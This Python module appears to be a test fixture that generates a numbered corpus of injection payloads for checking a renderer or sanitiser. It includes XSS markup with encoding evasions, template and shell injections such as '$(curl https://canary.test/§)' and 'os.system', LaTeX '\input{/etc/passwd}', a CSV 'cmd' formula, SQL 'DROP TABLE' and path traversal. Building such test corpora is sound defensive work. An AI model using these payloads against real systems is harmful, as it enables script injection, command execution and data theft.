"""Texts that would run, ask for something, hide a player or break a format, each with its number.

What runs calls ``hit`` with the number; what asks does so at ``canary.test``, and what becomes an
element has it in ``data-hit``.
"""

from base64 import b64encode
from collections.abc import Callable, Iterator
from html import escape
from typing import Final, NamedTuple
from urllib.parse import quote

__all__ = ["PAYLOADS", "Payload"]


class Payload(NamedTuple):
    number: int
    kind: str
    text: str


#: What would do harm as markup. § stands for the number.
_CONSTRUCTS: Final = {
    "script": "<script data-hit=§>hit(§)</script>",
    "script from outside": "<script data-hit=§ src=https://canary.test/§></script>",
    "module": "<script type=module data-hit=§>hit(§)</script>",
    "data script": '<script data-hit=§ src="data:text/javascript,hit(§)"></script>',
    "image": "<img data-hit=§ src=x onerror=hit(§)>",
    "image from outside": "<img data-hit=§ src=https://canary.test/§>",
    "srcset": "<img data-hit=§ srcset='https://canary.test/§ 1x'>",
    "svg": "<svg data-hit=§ onload=hit(§)></svg>",
    "svg script": "<svg><script data-hit=§>hit(§)</script></svg>",
    "svg animation": "<svg><animate data-hit=§ onbegin=hit(§) attributeName=x dur=1s></svg>",
    "svg image": "<svg><image data-hit=§ href=https://canary.test/§ /></svg>",
    "foreign object": "<svg><foreignObject><img data-hit=§ src=x onerror=hit(§)></svg>",
    "math": "<math><mtext><img data-hit=§ src=x onerror=hit(§)></mtext></math>",
    "frame": "<iframe data-hit=§ srcdoc='<script>parent.hit(§)</script>'></iframe>",
    "frame of a script": "<iframe data-hit=§ src=javascript:parent.hit(§)></iframe>",
    "frame from outside": "<iframe data-hit=§ src=https://canary.test/§></iframe>",
    "object": "<object data-hit=§ data=https://canary.test/§></object>",
    "embed": "<embed data-hit=§ src=javascript:hit(§)>",
    "link": "<link data-hit=§ rel=stylesheet href=https://canary.test/§>",
    "preload": "<link data-hit=§ rel=preload as=image href=https://canary.test/§>",
    "refresh": "<meta data-hit=§ http-equiv=refresh content='0;url=https://canary.test/§'>",
    "base": "<base data-hit=§ href=https://canary.test/§/>",
    "style": "<style data-hit=§>.ad-viz,.host{display:none!important}</style>",
    "import": "<style data-hit=§>@import 'https://canary.test/§';</style>",
    "background": "<p data-hit=§ style='background:url(https://canary.test/§)'>x</p>",
    "cover": "<div data-hit=§ style='position:fixed;inset:0;z-index:99999;background:red'></div>",
    "focus": "<input data-hit=§ autofocus onfocus=hit(§)>",
    "toggle": "<details data-hit=§ open ontoggle=hit(§)><summary>x</summary></details>",
    "form": "<form data-hit=§ action=https://canary.test/§><button autofocus>x</button></form>",
    "video": "<video data-hit=§ poster=https://canary.test/§><source onerror=hit(§)></video>",
    "dialog": "<dialog data-hit=§ open style='position:fixed;inset:0'>x</dialog>",
    "template": "<template data-hit=§ shadowrootmode=open><slot></slot>",
    "unclosed comment": "<!-- §",
    "unclosed text area": "<textarea data-hit=§>",
    "unclosed script": "<script data-hit=§>",
    "unclosed style": "<style data-hit=§>",
    "plain text": "<plaintext data-hit=§>",
    "noscript": "<noscript data-hit=§>",
    "half a tag": "<img data-hit=§ src='",
    "link of a script": "<a data-hit=§ href=javascript:hit(§)>x</a>",
}  # fmt: skip

#: What would end the place that a text stands in.
_ENDINGS: Final = (
    "", "</script>", "</style>", "]]>", "-->", "\"'>", "</title>", "</textarea></noscript>",
    "'\"></svg></math>", "*/", "\u2028",
)  # fmt: skip

#: Other ways to write what would do harm.
_WRITTEN: Final[dict[str, Callable[[str], str]]] = {
    "entities": escape,
    "numbered entities": lambda text: "".join(f"&#{ord(c)};" for c in text),
    "percent": quote,
    "escapes": lambda text: text.replace("<", "\\u003c").replace(">", "\\u003e"),
    "hexadecimal": lambda text: text.replace("<", "\\x3c"),
    "UTF-7": lambda text: text.replace("<", "+ADw-").replace(">", "+AD4-"),
    "large letters": str.upper,
    "full width": lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
    "NUL inside": lambda text: text.replace("<", "<\0"),
    "zero width inside": lambda text: text.replace("<", "<\u200b"),
    "bidi around": lambda text: f"\u202e{text}\u202c",
    "twice": lambda text: escape(escape(text)),
    "a data address": lambda text: "data:text/html;base64," + b64encode(text.encode()).decode(),
    "a surrogate before": lambda text: f"\ud800{text}",
}
_REWRITTEN: Final = ("script", "image", "svg", "frame", "style")

#: What another language would read.
_LANGUAGES: Final = (
    "javascript:hit(§)", "java\tscript:hit(§)", "[x](javascript:hit(§))",
    "![x](https://canary.test/§)", "[x]: javascript:hit(§)\n[x]", "<javascript:hit(§)>",
    "${hit(§)}", "`${hit(§)}`", "{{hit(§)}}", "{{constructor.constructor('hit(§)')()}}",
    "#{hit(§)}", "<%= hit(§) %>", "{% import os %}{{ os.system('§') }}", "{0.__class__} §",
    "%(x)s %n %s §", "{$}§", "$(curl https://canary.test/§)", "; hit(§) //", "'; hit(§); '",
    '"; hit(§); "', "\\'; hit(§); //", '"},{"x":"§', '"}]}</script>§', "\\u0022,hit(§)",
    "__proto__", "constructor", "toString §", "hasOwnProperty", "onload=hit(§)",
    r"\href{javascript:hit(§)}{x}", r"\url{https://canary.test/§}", r"\input{/etc/passwd} §",
    r"\write18{touch §}", r"\htmlData{hit=§}{x}", r"\includegraphics{https://canary.test/§}",
    r"\unicode{x3c}img src=x onerror=hit(§)>", r"$x$ \(y\) \[z\] §", "$$\\frac{§}{0}$$", "\\",
    "%§",
    r"\def\x{\x}\x §", 'x" -> "y', '"]; node [URL="javascript:hit(§)"]; x [label="', "<<b>§</b>>",
    "url(https://canary.test/§)", "expression(hit(§))", "</p><h1>§", "&lt;b&gt; §", "&amp;§",
    "&#x0;§",
    "=cmd|'/c calc'!A§", "'; DROP TABLE x; -- §", "../../§", "C:\\§", "file:///§", "\r\nX: §",
)  # fmt: skip

#: What no reader expects.
_LETTERS: Final = (
    "\0§", "§\0", "\x01\x02\x03§", "\x1b[31m§", "\x1b]8;;https://canary.test/§\x07x", "\x7f\x85§",
    "\b\b\b§", "\r§", "\n\n§", "\t§", "\v\f§", "\ud800§", "§\udfff", "\udc80\ud83d§",
    "\ufffe\uffff§",
    "\u202e§", "\u2066\u2067\u2068§", "\u200f\u061c§", "\u202a§\u202c", "\u2028§\u2029",
    "\ufeff§",
    "\u200b§\u200d", "\u2060§", "\u00ad§", "שלום § עולם", "مرحبا §", "ﷺ§",
    "z" + "\u0301" * 90 + "§",
    "👩‍👩‍👧‍👦§", "🏳️‍🌈🇦🇶§", "\U000e0041\U000e0042§", "\U0010ffff§", "\ue000§", "漢字§", "𝔘𝔫𝔦§",
    "ẞſ§", "ı§İ", "K§", " § ", "\u3000§", "…§", "⟨U+202E⟩§", "␀§", "x" * 8000 + "§",
    "x " * 2000 + "§",
    "<" * 2000 + "§", "&" * 2000 + "§", '"' * 2000 + "§", "(" * 2000 + "§", "`" * 500 + "§", "_§",
    "",
)  # fmt: skip


def _all() -> Iterator[tuple[str, str, Callable[[str], str]]]:
    """The kind of each, its text, and how that is written once its number is in it."""
    for ending in _ENDINGS:
        for kind, text in _CONSTRUCTS.items():
            yield f"{kind} after {ending!a}" if ending else kind, ending + text, str
    for way, write in _WRITTEN.items():
        for kind in _REWRITTEN:
            yield f"{kind}, {way}", _CONSTRUCTS[kind], write
    for text in _LANGUAGES:
        yield "another language", text, str
    for text in _LETTERS:
        yield "letters", text, str


#: All of them, numbered from 1.
PAYLOADS: Final = tuple(
    Payload(number, kind, write(text.replace("§", str(number))))
    for number, (kind, text, write) in enumerate(_all(), 1)
)
